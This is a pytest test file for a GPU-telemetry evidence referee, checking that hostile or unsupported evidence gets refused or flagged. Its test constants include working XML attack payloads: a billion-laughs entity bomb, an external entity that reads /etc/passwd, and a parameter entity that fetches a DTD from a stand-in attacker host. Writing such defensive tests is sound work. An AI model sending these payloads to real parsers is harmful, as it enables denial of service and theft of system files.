"""Hostile evidence is refused safely, and a refusal is a flag, never a pass.

Regression assets for the attacks the lane must survive: XML entity bombs and external
entities, oversized files, telemetry whose clock jumps, evidence from outside the run,
and numbers with no instrumentation behind them.
"""

from __future__ import annotations

import time
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from defendable_referee.compute.errors import EvidenceRefused
from defendable_referee.compute.evidence import MAX_EVIDENCE_BYTES
from defendable_referee.compute.nvidia_smi import MAX_XML_BYTES, parse_smi_xml
from defendable_referee.compute.smi_csv import parse_smi_csv

from .kit import XML, Bundle, Row, claim, flagged, of_kind, run, series, submission, unsatisfied

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nvidia_smi_log><driver_version>&lol9;</driver_version>
<gpu id="00000000:00:1E.0"><product_name>Tesla T4</product_name></gpu></nvidia_smi_log>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nvidia_smi_log><driver_version>&secret;</driver_version></nvidia_smi_log>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<nvidia_smi_log/>
"""


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (BILLION_LAUGHS, "EntitiesForbidden"),
        (EXTERNAL_ENTITY, "EntitiesForbidden"),
        (PARAMETER_ENTITY, "EntitiesForbidden"),
        (b"<nvidia_smi_log>" + b"<a/>" * 600_000 + b"</nvidia_smi_log>", "elements; the limit is"),
        (b"<html><body/></html>", "the root element is <html>"),
        (b"<nvidia_smi_log><gpu>", "malformed"),
    ],
)
def test_hostile_nvidia_smi_xml_is_refused_before_it_expands(data: bytes, why: str) -> None:
    started = time.monotonic()
    with pytest.raises(EvidenceRefused, match=why):
        parse_smi_xml(data)
    assert time.monotonic() - started < 5  # refused, not expanded


def test_oversized_xml_is_refused_before_parsing() -> None:
    with pytest.raises(EvidenceRefused, match=f"the limit is {MAX_XML_BYTES}"):
        parse_smi_xml(b"<nvidia_smi_log>" + b" " * MAX_XML_BYTES + b"</nvidia_smi_log>")


def gpu_spec(tmp_path: Path, xml: bytes) -> tuple[dict[str, Any], Bundle]:
    bundle = Bundle(tmp_path)
    bundle.add("gpu_inventory", "nvidia-smi.xml", xml, "application/xml")
    document = submission(
        bundle, start="2023-04-24T16:00:00Z", end="2023-04-24T17:00:00Z", model="T4-16GB", count=1, memory_gb=16
    )
    return document, bundle


def test_a_billion_laughs_inventory_fails_the_sheet_closed(tmp_path: Path) -> None:
    document, bundle = gpu_spec(tmp_path, BILLION_LAUGHS)
    findings, verdict = run("compute_gpu_spec_verification_v1", document, bundle)
    [spec] = of_kind(findings, "gpu_spec")
    assert spec.status == "flag" and "EntitiesForbidden" in spec.message
    assert flagged(findings, "cannot place evidence in time", tier="high")
    assert verdict.severity == "propolis" and verdict.recommended_action != "approve"


def test_an_evidence_file_over_the_size_limit_is_not_read(tmp_path: Path) -> None:
    document, bundle = gpu_spec(tmp_path, (XML / "tesla-t4-driver-515.xml").read_bytes())
    with bundle.files["ev_1"].open("r+b") as sparse:
        sparse.truncate(MAX_EVIDENCE_BYTES + 1)  # sparse: the referee must refuse it by its size alone
    findings, _ = run("compute_gpu_spec_verification_v1", document, bundle)
    assert flagged(findings, f"{MAX_EVIDENCE_BYTES + 1} bytes; the limit is {MAX_EVIDENCE_BYTES}")


def test_a_csv_field_too_long_or_not_finite_is_refused() -> None:
    with pytest.raises(EvidenceRefused, match="malformed"):
        parse_smi_csv(b"timestamp, uuid\n2024/01/20 05:21:00.000, " + b"A" * 200_000 + b"\n")
    with pytest.raises(EvidenceRefused, match="not a number"):
        parse_smi_csv(b"timestamp, uuid, power.draw [W]\n2024/01/20 05:21:00.000, GPU-1, nan W\n")


# -- clocks and windows ---------------------------------------------------------------

THERMAL = "compute_thermal_power_check_v1"


def thermal(tmp_path: Path, csv: bytes, **window: str) -> tuple[dict[str, Any], Bundle]:
    bundle = Bundle(tmp_path)
    bundle.add("telemetry", "telemetry.csv", csv, "text/csv")
    span = {"start": "2024-01-20T05:20:00Z", "end": "2024-01-20T05:35:00Z"} | window
    document = submission(
        bundle,
        start=span["start"],
        end=span["end"],
        model="H100-SXM5-80GB",
        count=1,
        memory_gb=80,
        power_limit_w=700.0,
    )
    return document, bundle


def test_a_clock_that_jumps_backwards_makes_the_series_untrusted(tmp_path: Path) -> None:
    start = datetime(2024, 1, 20, 5, 21)
    times = [start + timedelta(seconds=5 * i) for i in range(60)]
    times[40:] = [t - timedelta(minutes=3) for t in times[40:]]  # NTP stepped the clock back three minutes
    document, bundle = thermal(tmp_path, series(start, 0, times=times))
    findings, verdict = run(THERMAL, document, bundle)
    jump = flagged(findings, "clock jumps backwards 1 times: line 42", tier="high")
    assert jump.kind == "run_window"
    assert flagged(findings, "clock jumps backwards (line 42): not trusted", tier="high").kind == "thermal_power"
    assert verdict.severity == "propolis"


def test_a_clock_that_jumps_forwards_leaves_a_gap_that_is_flagged(tmp_path: Path) -> None:
    start = datetime(2024, 1, 20, 5, 21)
    times = [start + timedelta(seconds=5 * i) for i in range(60)]
    times[30:] = [t + timedelta(seconds=120) for t in times[30:]]
    document, bundle = thermal(tmp_path, series(start, 0, times=times))
    findings, _ = run(THERMAL, document, bundle)
    gap = flagged(findings, "silent longer than 30 s 1 times", tier="mid")
    assert "125 s from 2024-01-20T05:23:25+00:00" in gap.message


def test_evidence_with_timestamps_outside_the_declared_window_is_a_high_flag(tmp_path: Path) -> None:
    document, bundle = thermal(tmp_path, series(datetime(2024, 1, 20, 5, 21), 120), start="2024-01-20T05:25:00Z")
    findings, _ = run(THERMAL, document, bundle)
    outside = flagged(findings, "48 of 120 timestamps fall outside the run window", tier="high")
    assert outside.observed == "2024-01-20T05:21:00+00:00"


def test_a_window_that_ends_before_it_starts_is_refused(tmp_path: Path) -> None:
    document, bundle = thermal(tmp_path, series(datetime(2024, 1, 20, 5, 21), 20), end="2024-01-20T05:00:00Z")
    findings, _ = run(THERMAL, document, bundle)
    assert flagged(findings, "no usable run window: run_window ends", tier="high")


# -- numbers with nothing behind them -------------------------------------------------


def test_a_claimed_number_with_no_instrumentation_behind_it_is_a_high_flag(tmp_path: Path) -> None:
    csv = series(datetime(2024, 1, 20, 5, 21), 60, shape=lambda i: Row())
    document, bundle = thermal(tmp_path, csv)
    document["claims"] = [
        claim("mean_power_w", 650, "W", "telemetry.csv"),  # derivable: passes
        claim("mean_power_w", 650, "W", "power-meter-notes.txt"),  # cites nothing attached
        claim("model_load_s", 12.5, "s", "telemetry.csv"),  # not a figure this sheet re-derives
        claim("max_temperature_c", 64, "kelvin", "telemetry.csv"),  # wrong unit
    ]
    findings, _ = run(THERMAL, document, bundle)
    claims = of_kind(findings, "measured_claims")
    assert [f.status for f in claims] == ["pass", "flag", "flag", "flag"]
    assert all(f.tier == "high" for f in claims[1:])
    assert "not measured — it cites 'power-meter-notes.txt'" in claims[1].message
    assert "not measured — 'model_load_s' is not a figure this sheet re-derives" in claims[2].message
    assert "measured in C, not kelvin" in claims[3].message


def test_a_figure_the_file_reports_as_na_cannot_be_claimed(tmp_path: Path) -> None:
    csv = b"timestamp, uuid, temperature.gpu, power.draw [W]\n" + b"".join(
        f"2024/01/20 05:21:{s:02d}.000, GPU-1, 60, [N/A]\n".encode() for s in range(0, 60, 5)
    )
    document, bundle = thermal(tmp_path, csv)
    document["claims"] = [claim("mean_power_w", 300, "W", "telemetry.csv")]
    findings, _ = run(THERMAL, document, bundle)
    assert flagged(findings, "mean_power_w = 300 W: not measured — the telemetry reports no power draw", tier="high")
    assert flagged(findings, "power draw not measured", tier="high")


def test_numbers_hidden_in_the_notes_are_refused_by_the_schema(tmp_path: Path) -> None:
    document, bundle = thermal(tmp_path, series(datetime(2024, 1, 20, 5, 21), 60))
    document["notes"] = "we also saw about 4000 tokens per second on a good day"
    findings, verdict = run(THERMAL, document, bundle)
    assert flagged(findings, "does not match the required output schema").kind == "schema"
    assert verdict.recommended_action == "reject"
    assert unsatisfied(findings)
